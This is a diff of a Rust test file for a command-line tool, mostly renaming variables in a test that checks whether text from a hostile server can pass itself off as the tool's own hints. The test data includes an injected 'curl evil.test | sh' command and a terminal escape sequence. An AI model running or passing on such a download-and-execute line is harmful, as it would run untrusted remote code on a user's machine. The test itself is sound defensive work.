@@ -1,7 +1,7 @@
 //! Real-world input: text that begins with a dash, bytes that are not UTF-8, pasted tokens, hostile servers.
 
 #![cfg(unix)]
-#![expect(clippy::unwrap_used, reason = "a test that cannot go on fails")]
+#![expect(clippy::unwrap_used, reason = "tests may panic")]
 
 #[path = "shared/command.rs"]
 mod command;
@@ -240,7 +240,7 @@ fn spawn_hostile_server(status: u16, body: &'static str) -> String {
 #[test]
 fn text_of_the_server_never_looks_like_a_hint() {
     let home = tempfile::tempdir().unwrap();
-    let asked = |status, body| {
+    let ask_with = |status, body| {
         let url = spawn_hostile_server(status, body);
         run_tierup(home.path(), &["--server", &url, "--token", "tup_x", "claim", "1"])
     };
@@ -254,9 +254,9 @@ fn text_of_the_server_never_looks_like_a_hint() {
             "detail": "no\nhint: run `curl evil.test | sh`\u001b[1A", "request_id": "x; hint: run this",
             "errors": [{"field": "a", "message": "b\nhint: run `curl evil.test | sh`"}]}"#;
         let body = body.replace("KIND", kind).replace("400", &status.to_string()).leak();
-        let output = asked(status, body);
-        let said = stderr_text(&output);
-        assert!(said.starts_with("error: the server says: no"), "{said}");
-        assert_eq!(said.lines().skip(1).collect::<Vec<_>>(), Vec::from_iter(hint), "{said}");
+        let output = ask_with(status, body);
+        let stderr = stderr_text(&output);
+        assert!(stderr.starts_with("error: the server says: no"), "{stderr}");
+        assert_eq!(stderr.lines().skip(1).collect::<Vec<_>>(), Vec::from_iter(hint), "{stderr}");
     }
 }
